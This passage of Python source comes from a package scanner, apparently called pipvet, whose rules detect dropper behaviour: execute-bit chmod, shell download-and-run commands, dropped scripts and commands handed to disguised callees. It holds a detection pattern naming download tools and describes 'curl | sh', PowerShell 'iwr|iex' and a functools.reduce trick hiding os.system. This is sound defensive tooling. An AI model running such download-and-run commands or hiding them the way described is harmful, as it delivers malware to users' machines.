    """Whether ``os.chmod``'s mode may set an execute bit. A name bound in the same function only
    to modes read from elsewhere (``mode = _file_mode(path)``: keeping a replaced file's
    permissions, pythainlp) sets none; an execute flag or constant anywhere in it does; a mode
    of unknown origin (a parameter) counts as one."""
    if mode is None:
        return False
    values: list[ast.expr] = [mode]
    if isinstance(mode, ast.Name):
        bound = [a.value for a in facts.assigns.get(mode.id, []) if a.function == call.function]
        if not bound:
            return True
        values = bound
    for value in values:
        for node in ast.walk(value):
            if isinstance(node, ast.Constant) and isinstance(node.value, int) and node.value & 0o111:
                return True
            if isinstance(node, ast.Attribute | ast.Name) and (
                (node.attr if isinstance(node, ast.Attribute) else node.id) in _EXEC_FLAGS
            ):
                return True
    return not all(_read_elsewhere(v) for v in values)


def _read_elsewhere(value: ast.expr) -> bool:
    """A mode that is a constant (its bits were checked), a call's result or an ``st_mode``."""
    return isinstance(value, ast.Call | ast.Constant) or (
        isinstance(value, ast.Attribute) and value.attr == "st_mode"
    )


class ShellDropper(BaseRule):
    """A shell or PowerShell command that downloads and runs something."""

    __slots__ = ()

    def check(self, file: FileContext, package: PackageContext) -> Iterable[Finding]:
        if not _may_drop_by_shell(file):
            return
        facts = _python(file, "process", words=("startfile",))
        if facts is None:
            return
        for call in facts.calls:
            if "process" not in capabilities(call) and call.name not in {"os.startfile"}:
                continue
            text, _ = command_text(facts, call)
            kind = classify(text)
            if kind not in _WHAT:
                continue
            stage = call_stage(file, package, facts, call)
            severity = _strong(stage) if kind is not Command.DOWNLOAD else Severity.HIGH
            if kind is Command.DOWNLOAD and stage not in UNASKED_STAGES:
                severity = Severity.MEDIUM
            yield self.at_call(
                file,
                call,
                severity=severity,
                stage=stage,
                message=f"{call.name}() runs a shell command that " + _WHAT[kind] + f": {text[:120]!r}",
            )
        yield from self._scripts(file, package, facts)

    def _scripts(self, file: FileContext, package: PackageContext, facts: Facts) -> Iterator[Finding]:
        """A download-and-run command written into a file by code that runs programs: a
        ``.bat``, ``.vbs`` or shell script dropped and started (``os.startfile(p)``,
        ``wscript p``), so that no process call is handed the command itself."""
        for call in facts.calls:
            if call.name in _CONSOLE_WRITES or call.name.rpartition(".")[2] not in _FILE_OBJECT_WRITES:
                continue
            text, _ = command_text(facts, call)
            if "\x00" in text or classify(text) not in _RUN_KINDS or _DOCKERFILE_STEP.search(text):
                continue  # a program's bytes are no script (its strings say "run" and "http")
            stage = call_stage(file, package, facts, call)
            yield self.at_call(
                file,
                call,
                severity=_strong(stage),
                stage=stage,
                message=f"{call.name}() writes a script that downloads and runs a program, in code that "
                f"starts programs: {text[:120]!r}",
            )


class OpaqueDropper(BaseRule):
    """A download-and-run command line handed to a call the analysis cannot name.

    Calls get hidden behind factories, containers and reflection in ways no resolver follows to
    the end (a class made with ``type(...)``, a factory in another module, a parameter); a
    complete ``curl ... | sh`` handed to one of them is still the dropper's intent, whatever
    runs it.
    """

    __slots__ = ()

    def check(self, file: FileContext, package: PackageContext) -> Iterable[Finding]:
        if not _may_drop_by_shell(file) or not _may_name_a_dropper(file):
            return
        facts = facts_of(file)
        if facts is None:
            return
        for call in facts.calls:
            if not _opaque(call):
                continue
            text, kind = next(
                ((t, k) for t in _handed_commands(facts, call) if (k := classify(t)) in _RUN_KINDS),
                ("", None),
            )
            if kind is None:
                continue
            yield self.weighed_at_call(
                file,
                package,
                facts,
                call,
                message=f"a call pipvet cannot resolve ({call.name.lstrip('?') or 'computed'}) is handed a "
                f"shell command that {_WHAT[kind]}: {text[:120]!r}",
            )


_RUN_KINDS = (Command.DOWNLOAD_AND_RUN, Command.ENCODED)
#: A word every command of :data:`_RUN_KINDS` holds (``_shell._DOWNLOAD``, ``_shell._ENCODED``),
#: as a whole word: ``curl`` and not ``curly``, which code about braces writes often.
_DROPPER_WORD = LazyPattern(
    r"\b(?:curl|wget|iwr)\b|invoke-webrequest|downloadstring|downloadfile|net\.webclient|certutil"
    r"|bitsadmin|start-bitstransfer|powershell"
)


def _may_name_a_dropper(file: FileContext) -> bool:
    """Cheap pre-check for :class:`OpaqueDropper`, after :func:`_may_drop_by_shell`: a word of
    a download-and-run or encoded command in the lower-cased text or in its unhidden form.
    Tracing what every unresolved call is handed costs milliseconds a call; a file of a parser
    that says "curly" a hundred times has nothing for it to find."""
    if _DROPPER_WORD.search(lower(file)):
        return True
    hidden = unhidden_text(file)
    return hidden is not None and _DROPPER_WORD.search(hidden.lower()) is not None


_DOCKERFILE_STEP = LazyPattern(r"(?m)^\s*RUN\s")
"""A Dockerfile step: a command for an image build, written by tools that generate Dockerfiles."""


def _handed_commands(facts: Facts, call: CallFact) -> Iterator[str]:
    """The command text an opaque call is handed: its first argument, or for a runner of a
    function (``functools.reduce(f, fns, cmd)``) each argument after that function."""
    if call.name not in _RUN_WHAT_THEY_ARE_HANDED:
        yield command_text(facts, call)[0]
        return
    for arg in call.node.args[1:]:
        alone = ast.copy_location(ast.Call(func=call.node.func, args=[arg], keywords=[]), call.node)
        yield command_text(facts, call._replace(node=alone))[0]


#: Last parts of callee names that take text to show, log, store or take apart, never to run.
_TEXT_HANDLERS = frozenset(
    {
        *("print", "echo", "secho", "log", "debug", "info", "warning", "warn", "error", "critical"),
        *("exception", "fatal", "fail", "skip", "exit", "format", "append", "extend", "insert"),
        *("add", "write", "writelines", "join", "replace", "split", "strip", "encode", "decode"),
        *("startswith", "endswith", "find", "index", "count", "get", "setdefault", "update"),
        *("quote", "escape", "sub", "match", "search", "findall", "dedent", "wrap", "note"),
        "announce",
    }
)


_IMAGE_STEPS = frozenset({"run_commands", "dockerfile_commands"})
"""Steps of a container image a builder object declares (Modal's ``Image.run_commands``): the
commands run while that image builds, in its container, not on the machine reading the code."""


#: Calls that run whatever function they are handed, with the other arguments: what runs is
#: as unknown as an unresolved name (``functools.reduce(lambda a, f: f(a), [os.system], cmd)``).
_RUN_WHAT_THEY_ARE_HANDED = frozenset(
    {"functools.reduce", "map", "filter", "itertools.starmap", "itertools.accumulate"}
)


def _opaque(call: CallFact) -> bool:
    """Whether nothing is known of what ``call`` calls: no capability, a name from nowhere (an
    unresolved root, or a resolution through reflection), a runner of a function it is handed,
    and not a method that only handles text. Functions of the file itself are known: other
    rules follow their bodies."""
    if capabilities(call):
        return False
    if call.name in _RUN_WHAT_THEY_ARE_HANDED:
        return True
    last = call.name.rpartition(".")[2].lstrip("?").removesuffix("()")
    if last in _TEXT_HANDLERS or last in _IMAGE_STEPS or last.endswith(("Error", "Exception", "Warning")):
        return False
    return call.name.startswith("?") or call.indirect


_WHAT = {
    Command.DOWNLOAD_AND_RUN: "downloads a program and runs it",
    Command.DOWNLOAD: "downloads a file",
    Command.ENCODED: "hides its commands in an encoded PowerShell blob",
    Command.BEACON: "tells another machine who runs it (user or host name in the address)",
}

RULES = (
    ExecFetched(
        id="PV-DL-001",
        title="Executes downloaded code",
        severity=Severity.CRITICAL,
        rationale="exec/eval of fetched data hands control to a remote server (THREATS signal 12).",
    ),
    DropAndRun(
        id="PV-DL-002",
        title="Downloads, writes and runs a program",
        severity=Severity.CRITICAL,
        rationale="Fetch + write + chmod/spawn is how droppers deliver miners and stealers (smb, "
        "ultralytics, lmstudio-api) (THREATS signal 12).",
    ),
    ShellDropper(
        id="PV-DL-003",
        title="Shell download-and-run command",
        severity=Severity.CRITICAL,
        rationale="curl|sh, wget+chmod, PowerShell iwr|iex handed to a shell fetch and run code "
        "outside any review (THREATS signal 12).",
    ),
    OpaqueDropper(
        id="PV-DL-004",
        title="Download-and-run command handed to an unresolved call",
        severity=Severity.HIGH,
        rationale="A whole curl|sh or encoded PowerShell line handed to a callee hidden from the "
        "analysis is a dropper whose runner was disguised (THREATS signal 12).",
    ),
)
